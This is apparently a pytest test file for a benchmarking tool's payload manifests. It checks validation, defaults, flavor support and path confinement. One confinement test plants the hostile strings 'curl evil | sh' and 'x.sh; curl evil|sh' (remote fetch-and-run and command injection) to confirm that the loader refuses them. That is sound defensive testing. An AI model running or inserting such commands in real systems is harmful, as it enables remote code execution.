"""Payload manifests: every shipped manifest is well-formed, and variables validate as documented."""

from __future__ import annotations

import ast
import re
import shutil
import subprocess
import sys

import pytest

from hpcai import payload_rules, payload_schema, payloads
from hpcai.errors import UsageError
from hpcai.payloads import load_payload
from hpcai.resources import package_file

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

NAMES = payloads.available_payloads()
FLAVORS = tomllib.loads(package_file("image", "flavors.toml").read_text())["flavors"]
ROOT = payloads.payloads_root()


def test_every_issue_payload_is_shipped():
    """The payloads the issues asked for are shipped (a further one may be added)."""
    assert {"sanity", "mpi-allreduce", "ddp-bench", "hvd-synthetic", "hf-clm", "tf-resnet50", "tf-cnn-benchmarks",
            "nccl-tests", "rccl-tests", "osu", "openclip", "mila-suite", "mila-training", "megatron-gpt"} <= set(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_manifest_loads_and_is_complete(name):
    m = load_payload(name)
    assert m.description and m.geometry in payload_schema.GEOMETRIES
    assert m.raw["run"]["command"], "a payload must say what it runs"
    assert m.sanity, "a payload must say what a good run prints"
    assert m.headline in {x.name for x in m.metrics}
    assert all(f == "*" or f in FLAVORS for f in m.flavors)
    # every variable's default passes its own validation (type, choices)
    assert set(m.validate_vars({})) == {v.name for v in m.variables}
    for prof in m.raw.get("profiles", {}):
        m.validate_vars({}, profiles=(prof,))


@pytest.mark.parametrize("flavor", sorted(FLAVORS))
def test_default_payloads_support_their_flavor(flavor):
    """Rendering refuses a payload for a flavor it does not support: the defaults must all fit."""
    for name in FLAVORS[flavor]["default_payloads"]:
        assert load_payload(name).supports(flavor), f"{name} vs {flavor}"


def test_gpu_only_payloads_install_only_for_their_family():
    assert load_payload("nccl-tests").install_steps("cuda").build == "build.sh"
    assert load_payload("nccl-tests").install_steps("rocm").build is None
    assert load_payload("rccl-tests").install_steps("rocm").build == "build.sh"
    assert not load_payload("nccl-tests").supports("pytorch-cpu")
    assert not load_payload("openclip").supports("tensorflow-ngc")
    mpi = load_payload("mpi-allreduce")  # Debian's mpi4py on CPU, compiled elsewhere
    assert mpi.install_steps("cpu").runtime == "install-debian.sh" and mpi.install_steps("cpu").build is None
    assert mpi.install_steps("cuda").build == "build-mpi4py.sh"


def test_unknown_variable_lists_valid_ones():
    with pytest.raises(UsageError) as exc:
        load_payload("ddp-bench").validate_vars({"batchsize": 8})
    msg = str(exc.value)
    assert "unknown variable 'batchsize'" in msg
    assert "valid: backend, batch_size, image_size, iters, model, threads, warmup" in msg


@pytest.mark.parametrize("var,value,expect", [
    ("iters", "ten", "expected an integer"),
    ("backend", "mpi", "valid: auto, nccl, gloo"),
])
def test_bad_values_are_usage_errors(var, value, expect):
    with pytest.raises(UsageError, match=expect):
        load_payload("ddp-bench").validate_vars({var: value})


def test_values_layer_defaults_family_profile_then_overrides():
    m = load_payload("ddp-bench")
    assert m.validate_vars({})["image_size"] == "224"
    assert m.validate_vars({}, family="cpu")["image_size"] == "64"
    assert m.validate_vars({}, family="cpu", profiles=("quick",))["image_size"] == "32"
    assert m.validate_vars({"image_size": 48}, family="cpu", profiles=("quick",))["image_size"] == "48"
    assert load_payload("hf-clm").validate_vars({"pretrained": "yes"})["pretrained"] == "true"


def test_command_is_the_in_image_runner_with_overrides():
    m = load_payload("nccl-tests")
    assert m.command({"max_bytes": "1G"}) == ["/opt/hpcai/bin/hpcai-bench", "nccl-tests", "max_bytes=1G"]
    with pytest.raises(UsageError):
        m.command({"maxbytes": "1G"})


def test_benchmark_argv_substitutes_variables():
    argv = load_payload("nccl-tests").benchmark_argv({"collective": "all_gather"})
    assert argv[:7] == ["/opt/hpcai/bin/all_gather_perf", "-b", "1M", "-e", "8G", "-f", "2"]
    argv = load_payload("mpi-allreduce").benchmark_argv()
    assert argv[:2] == ["/opt/hpcai/venv/bin/python", "/opt/hpcai/payloads/mpi-allreduce/allreduce.py"]


def test_malformed_manifest_names_the_problem(tmp_path, monkeypatch):
    bad = tmp_path / "payloads" / "broken"
    bad.mkdir(parents=True)
    (bad / "payload.toml").write_text('description = "x"\n[run]\ncommand = ["{nope}"]\n')
    monkeypatch.setattr(payloads, "payloads_root", lambda: tmp_path / "payloads")
    with pytest.raises(UsageError, match=r"undefined variable \{nope\}"):
        load_payload("broken")
    (bad / "payload.toml").write_text('geometry = "per-socket"\n')
    with pytest.raises(UsageError, match="^payloads/broken/payload.toml: geometry 'per-socket' is not one of: per-gpu, per-node, single$"):
        load_payload("broken")
    with pytest.raises(UsageError, match="unknown payload '_runner'"):
        load_payload("_runner")


def test_flag_token_appears_only_when_its_variable_is_true():
    m = load_payload("openclip")
    assert "--grad-checkpointing" not in m.benchmark_argv()
    assert m.benchmark_argv({"grad_checkpointing": "true"})[-1] == "--grad-checkpointing"
    assert "--grad-checkpointing" in m.benchmark_argv(m.validate_vars({}, profiles=("mmoclip",)))
    hvd = load_payload("hvd-synthetic").benchmark_argv({"fp16_allreduce": "true"})
    assert hvd[-1] == "--fp16-allreduce"


@pytest.mark.parametrize("payload, profile", [
    ("hf-clm", "wikitext2"), ("hf-clm", "hpe"), ("openclip", "mmoclip"), ("megatron-gpt", "caraml"),
    ("tf-cnn-benchmarks", "caraml"), ("nccl-tests", "hpe"), ("hvd-synthetic", "hpe"), ("ddp-bench", "hpe"),
    ("mila-suite", "mila")])
def test_every_workflow_profile_names_its_source_for_each_value(payload, profile):
    """A workflow profile says where each of its values comes from (`hpcai payloads show`)."""
    m = load_payload(payload)
    source = m.raw["sources"][profile]
    assert source["cite"]
    assert set(m.raw["profiles"][profile]) <= set(source), "a profile value without its source value"


def test_workflow_values_match_their_sources():
    """The figures the sources give (docs/workflows.md), checked where a typo would hide."""
    values = {(p, prof): load_payload(p).validate_vars({}, profiles=(prof,))
              for p, prof in (("openclip", "mmoclip"), ("megatron-gpt", "caraml"), ("hf-clm", "wikitext2"),
                              ("hf-clm", "hpe"), ("hvd-synthetic", "hpe"), ("ddp-bench", "hpe"))}
    mm = values["openclip", "mmoclip"]
    assert (mm["batch_size"], mm["precision"], mm["model"], mm["samples"], mm["epochs"]) == \
        ("512", "amp", "ViT-L-14", "3200000", "1")
    mg = values["megatron-gpt", "caraml"]
    assert (mg["model_size"], mg["micro_batch_size"], mg["global_batch_size"], mg["seq_len"], mg["precision"]) == \
        ("800M", "4", "32", "2048", "fp16")
    wt = values["hf-clm", "wikitext2"]
    assert (wt["model"], wt["pretrained"], wt["dataset"], wt["batch_size"], wt["seq_len"], wt["epochs"],
            wt["eval"], wt["lr"], wt["seed"], wt["precision"]) == \
        ("gpt2", "true", "wikitext-2-raw-v1", "8", "1024", "3.0", "true", "5e-05", "42", "fp32")
    hpe = values["hf-clm", "hpe"]
    assert (hpe["model"], hpe["dataset"], hpe["batch_size"], hpe["seq_len"], hpe["precision"],
            hpe["grad_checkpointing"]) == ("llama-2-7b", "wikitext-2-v1", "8", "4096", "bf16", "true")
    assert (values["hvd-synthetic", "hpe"]["batch_size"], values["hvd-synthetic", "hpe"]["fp16_allreduce"]) == \
        ("96", "true")
    assert values["ddp-bench", "hpe"]["iters"] == "10"


def test_launch_and_sources_tables_must_name_a_profile(tmp_path, monkeypatch):
    bad = tmp_path / "payloads" / "broken"
    bad.mkdir(parents=True)
    monkeypatch.setattr(payloads, "payloads_root", lambda: tmp_path / "payloads")
    (bad / "payload.toml").write_text('[vars]\nn = { default = 1 }\n[profiles.a]\nn = 2\n'
                                      '[launch.b]\nsrun_args = ["--exclusive"]\n')
    with pytest.raises(UsageError, match=r"unknown profile in .*\[launch\]: 'b'; valid: a"):
        load_payload("broken")
    (bad / "payload.toml").write_text('[vars]\nn = { default = 1 }\n[profiles.a]\nn = 2\n'
                                      '[launch.a]\nsrun_args = "--exclusive"\n')
    with pytest.raises(UsageError, match="srun_args must be a list of strings"):
        load_payload("broken")
    (bad / "payload.toml").write_text('[vars]\nn = { default = 1 }\n[run]\ncommand = ["{n?--flag}"]\n')
    with pytest.raises(UsageError, match="needs a true/false variable n"):
        load_payload("broken")


def _scripts(suffix):
    return sorted(p for p in ROOT.rglob(f"*{suffix}"))


def test_install_and_run_scripts_are_shellcheck_clean():
    exe = shutil.which("shellcheck") or str(__import__("pathlib").Path(sys.executable).parent / "shellcheck")
    scripts = [str(p) for p in _scripts(".sh")]
    assert len(scripts) >= 8
    res = subprocess.run([exe, "--shell=bash", "-x", "-P", "SCRIPTDIR", *scripts], capture_output=True, text=True)
    assert res.returncode == 0, res.stdout


@pytest.mark.parametrize("path", [ROOT / "_runner" / "hpcai-bench", ROOT / "sanity" / "sanity.py"],
                         ids=lambda p: p.name)
def test_in_image_python_parses_as_python_3_8(path):
    """The runner and sanity run with the base image's Python (Poplar's Ubuntu 20.04 has 3.8)."""
    ast.parse(path.read_text(), feature_version=(3, 8))


@pytest.mark.parametrize("path", _scripts(".py"), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_payload_python_compiles(path):
    compile(path.read_text(), str(path), "exec")


def test_every_referenced_json_config_is_valid():
    import json

    for path in ROOT.rglob("*.json"):
        json.loads(path.read_text())


@pytest.mark.parametrize("name", NAMES)
def test_shipped_payload_paths_stay_in_their_folder(name):
    """Install scripts, run scripts and metric files are plain relative paths; no link leads out."""
    m = load_payload(name)
    payload_rules.check_folder(name, m.dir)
    for steps in m.install.values():
        for script in (steps.build, steps.runtime):
            if script:
                assert payload_rules.REL_PATH.fullmatch(script) and payload_rules.inside(m.dir, script, "x").is_file()
    assert all(payload_rules.REL_PATH.fullmatch(x.file) for x in m.metrics if x.file)


def test_a_payload_name_is_never_a_path(tmp_path, monkeypatch):
    """`../x` is refused before the file system is asked, even when ../x/payload.toml exists."""
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "payload.toml").write_text('description = "outside"\n')
    (tmp_path / "payloads").mkdir()
    monkeypatch.setattr(payloads, "payloads_root", lambda: tmp_path / "payloads")
    for name in ("../x", "/x", "-x", ".x", "x y"):
        with pytest.raises(UsageError, match=f"unknown payload {re.escape(repr(name))}"):
            load_payload(name)


def test_install_paths_are_confined(tmp_path, monkeypatch):
    root = tmp_path / "payloads"
    bad = root / "broken"
    bad.mkdir(parents=True)
    (tmp_path / "secret.sh").write_text("curl evil | sh\n")
    (bad / "link.sh").symlink_to(tmp_path / "secret.sh")
    monkeypatch.setattr(payloads, "payloads_root", lambda: root)
    where = "payloads/broken/payload.toml: install.cpu.build"
    for script, message in (("../secret.sh", "expected a file in the payload folder"),
                            ("x.sh; curl evil|sh", "expected a file in the payload folder"),
                            ("link.sh", "leads outside the payload folder"),
                            ("nope.sh", "not found in the payload folder")):
        (bad / "payload.toml").write_text(f'[install.cpu]\nbuild = "{script}"\n')
        with pytest.raises(UsageError, match=f"^{re.escape(where)} {re.escape(repr(script))}.*{message}"):
            load_payload("broken")


@pytest.mark.hostile
@pytest.mark.parametrize("value, fragment", [
    ('["ucx-ng"]', "unknown component in payloads/broken/payload.toml downloads: 'ucx-ng'; valid:"),
    ('"osu-micro-benchmarks"', "payloads/broken/payload.toml: key 'downloads' must be a list of strings, got"),
    ("[1]", "payloads/broken/payload.toml: key 'downloads' must be a list of strings, got [1]"),
])
def test_downloads_name_known_components(tmp_path, monkeypatch, value, fragment):
    bad = tmp_path / "payloads" / "broken"
    bad.mkdir(parents=True)
    (bad / "payload.toml").write_text(f'description = "x"\ndownloads = {value}\n')
    monkeypatch.setattr(payloads, "payloads_root", lambda: tmp_path / "payloads")
    with pytest.raises(UsageError, match=re.escape(fragment)):
        load_payload("broken")


def test_only_the_pins_an_image_downloads_reach_its_build():
    """A payload's install hooks fetch what its manifest's `downloads` names; nothing else is pinned
    into the build (ucx and gdrcopy, which no script fetches, never are)."""
    from hpcai.image.render import source_pins
    from hpcai.image.spec import make_spec

    assert load_payload("osu").downloads == ("osu-micro-benchmarks",)
    pins = source_pins(make_spec("pytorch-cpu", payloads="osu,sanity", sha="abc"))
    assert sorted({k.rsplit("_", 1)[0] for k in pins}) == ["OSU_MICRO_BENCHMARKS"]
    assert source_pins(make_spec("pytorch-cpu", payloads="sanity", sha="abc")) == {}
    ngc = source_pins(make_spec("pytorch-ngc", mpi="ompi", ofi="1", payloads="nccl-tests", sha="abc"))
    assert sorted({k.rsplit("_", 1)[0] for k in ngc}) == [
        "AWS_OFI_NCCL", "LIBFABRIC", "NCCL_TESTS", "OPENMPI", "PMIX"]


@pytest.mark.parametrize("value, ok", [("false", True), ("true", True), ('"no"', False), ("0", False)])
def test_install_compilers_is_a_boolean(tmp_path, monkeypatch, value, ok):
    root = tmp_path / "payloads"
    (root / "p").mkdir(parents=True)
    (root / "p" / "install.sh").write_text("#!/bin/bash\n")
    (root / "p" / "payload.toml").write_text(f'description = "p"\nflavors = ["*"]\n[install."*"]\n'
                                             f'build = "install.sh"\ncompilers = {value}\n')
    monkeypatch.setattr(payloads, "payloads_root", lambda: root)
    if ok:
        assert load_payload("p").install_steps("cpu").compilers is (value == "true")
    else:
        with pytest.raises(UsageError, match=r"key 'install\.\*\.compilers' must be true or false"):
            load_payload("p")


def test_pip_only_hooks_say_they_need_no_compilers():
    """hf-clm and megatron-gpt only pip-install wheels; osu compiles."""
    assert not load_payload("hf-clm").install_steps("cpu").compilers
    assert not load_payload("megatron-gpt").install_steps("cpu").compilers
    assert load_payload("osu").install_steps("cpu").compilers
